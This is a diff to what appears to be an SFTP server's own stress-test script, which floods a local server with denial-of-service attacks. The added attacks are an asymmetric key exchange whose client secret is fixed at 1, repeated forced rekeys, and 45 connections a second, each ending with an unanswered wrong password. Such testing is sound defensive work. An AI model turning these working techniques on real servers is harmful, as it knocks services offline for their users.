@@ -7,10 +7,12 @@ Kinds that log in and then send requests without waiting for the replies, which 
     listings    listings of a folder with thousands of names
     opens       opens and closes of a file
     channels    opens a channel, starts SFTP on it, and closes it
+    rekeys      the most expensive key exchange, again and again, after as many bytes as allow it
 
-A kind that does not log in:
+Kinds that do not log in; 45 connections a second:
 
-    exchanges   45 connections a second, each with the most expensive key exchange
+    exchanges   each with the most expensive key exchange
+    logins      the same, and then a wrong password whose answer it does not wait for
 
 It prints `ready` when it begins, and runs until it is killed. The site needs the files that
 `prepare` writes.
@@ -25,12 +27,13 @@ from contextlib import suppress
 from functools import partial
 from pathlib import Path
 from struct import pack
-from typing import Any
+from typing import Any, ClassVar
 
 ROOT = Path(__file__).resolve().parents[2]
 sys.path[:0] = [str(ROOT), str(ROOT / "tests")]
 
 import paramiko  # noqa: E402
+from paramiko.kex_group16 import KexGroup16SHA512  # noqa: E402
 from wire.attacker import (  # noqa: E402
     CLOSE,
     OPEN,
@@ -46,9 +49,12 @@ from wire.attacker import (  # noqa: E402
     string,
 )
 
+from sftpd.ssh import rekey_limit  # noqa: E402
+
 NAMES = 5_000
 BIG = 80 << 20
 _EXTENDED = 200
+_SERVICE_REQUEST, _USERAUTH_REQUEST = 5, 50
 _GLOBAL_REQUEST, _CHANNEL_OPEN, _CHANNEL_CLOSE, _CHANNEL_REQUEST = 80, 90, 97, 98
 _WINDOW = (1 << 31) - 1
 _CONNECTIONS_PER_SECOND = 45
@@ -114,13 +120,30 @@ REQUESTS: dict[str, Callable[[RawSftp], Iterator[bytes]]] = {
     "listings": listings,
     "opens": opens,
 }
-KINDS = (*REQUESTS, "channels")
+KINDS = (*REQUESTS, "channels", "rekeys")
+WITHOUT_LOGIN = ("exchanges", "logins")
 
 
-def log_in(port: int, user: str, key: str, source: str) -> paramiko.Transport:
+class CheapGroup16(KexGroup16SHA512):
+    """A client's side of the exchange that costs it nothing, since its secret number is 1."""
+
+    def _generate_x(self) -> None:
+        self.x = 1
+
+
+class ExpensiveTransport(paramiko.Transport):
+    """Exchanges keys in the way that costs the server most."""
+
+    _kex_info: ClassVar[dict[str, type]] = {_GROUP16.decode(): CheapGroup16}
+    _preferred_kex = (_GROUP16.decode(),)
+
+
+def log_in(
+    port: int, user: str, key: str, source: str, kind: type = paramiko.Transport
+) -> paramiko.Transport:
     """Return a connection that has logged in."""
     sock = socket.create_connection(("127.0.0.1", port), 60, (source, 0))
-    transport = paramiko.Transport(sock)
+    transport: paramiko.Transport = kind(sock)
     transport.banner_timeout = transport.handshake_timeout = transport.auth_timeout = 60
     transport.get_security_options().ciphers = ("aes128-gcm@openssh.com",)
     transport.connect(username=user, pkey=paramiko.Ed25519Key(filename=key))
@@ -165,6 +188,16 @@ def churn_channels(transport: paramiko.Transport) -> None:
         sock.sendall(batch)
 
 
+def exchange_keys(transport: paramiko.Transport) -> None:
+    """Exchange keys whenever the server allows another exchange: after 128 KiB (rekey_limit)."""
+    sftp = RawSftp.on_channel(transport.open_session(window_size=_WINDOW))
+    read = sftp.open(b"big") + pack(">QI", 0, rekey_limit.BYTES)
+    print("ready", flush=True)
+    while True:
+        sftp.request(READ, read)
+        transport.renegotiate_keys()
+
+
 class Sealer:
     """Seals messages with AES-GCM in place of paramiko, which takes longer than the server."""
 
@@ -194,18 +227,19 @@ def throw_away(sock: Any) -> None:
                 raise EOFError
 
 
-def start_exchanges(port: int, source: str) -> None:
-    """Connect again and again, and request a key exchange over the largest group."""
-    exchange = b"SSH-2.0-hostile\r\n" + ssh_packet(kexinit(kex=_GROUP16))
-    exchange += ssh_packet(b"\x1e" + pack(">I", 1) + b"\x05")
+def connect_often(attack: Callable[[], object]) -> None:
+    """Call `attack`, which connects, again and again, without waiting for its end."""
     print("ready", flush=True)
     while True:
         began = time.monotonic()
-        threading.Thread(target=_exchange, args=(port, source, exchange), daemon=True).start()
+        threading.Thread(target=attack, daemon=True).start()
         time.sleep(max(0.0, began + 1 / _CONNECTIONS_PER_SECOND - time.monotonic()))
 
 
-def _exchange(port: int, source: str, exchange: bytes) -> None:
+def exchange(port: int, source: str) -> None:
+    """Request a key exchange over the largest group, and hang up after the reply."""
+    exchange = b"SSH-2.0-hostile\r\n" + ssh_packet(kexinit(kex=_GROUP16))
+    exchange += ssh_packet(b"\x1e" + pack(">I", 1) + b"\x05")
     with (
         suppress(OSError),
         socket.create_connection(("127.0.0.1", port), 20, (source, 0)) as sock,
@@ -217,15 +251,38 @@ def _exchange(port: int, source: str, exchange: bytes) -> None:
             received += more
 
 
+def begin_login(port: int, user: str, source: str) -> None:
+    """Exchange keys, send a wrong password, and hang up."""
+    with (
+        suppress(OSError, EOFError, paramiko.SSHException),
+        socket.create_connection(("127.0.0.1", port), 20, (source, 0)) as sock,
+    ):
+        transport = ExpensiveTransport(sock)
+        try:
+            transport.start_client(timeout=20)
+            send_raw(transport, ssh_message(_SERVICE_REQUEST, b"ssh-userauth"))
+            wrong = ssh_message(
+                _USERAUTH_REQUEST, user.encode(), b"ssh-connection", b"password", False, b"wrong"
+            )
+            send_raw(transport, wrong)
+        finally:
+            transport.close()
+
+
 def main() -> None:
     """Run the attack that the command line names."""
-    kind, port, user, key, source = sys.argv[1:]
+    kind, number, user, key, source = sys.argv[1:]
+    port = int(number)
     if kind == "exchanges":
-        start_exchanges(int(port), source)
-    transport = log_in(int(port), user, key, source)
-    if kind == "channels":
-        churn_channels(transport)
-    send_requests(transport, kind)
+        connect_often(partial(exchange, port, source))
+    elif kind == "logins":
+        connect_often(partial(begin_login, port, user, source))
+    elif kind == "rekeys":
+        exchange_keys(log_in(port, user, key, source, ExpensiveTransport))
+    elif kind == "channels":
+        churn_channels(log_in(port, user, key, source))
+    else:
+        send_requests(log_in(port, user, key, source), kind)
 
 
 if __name__ == "__main__":
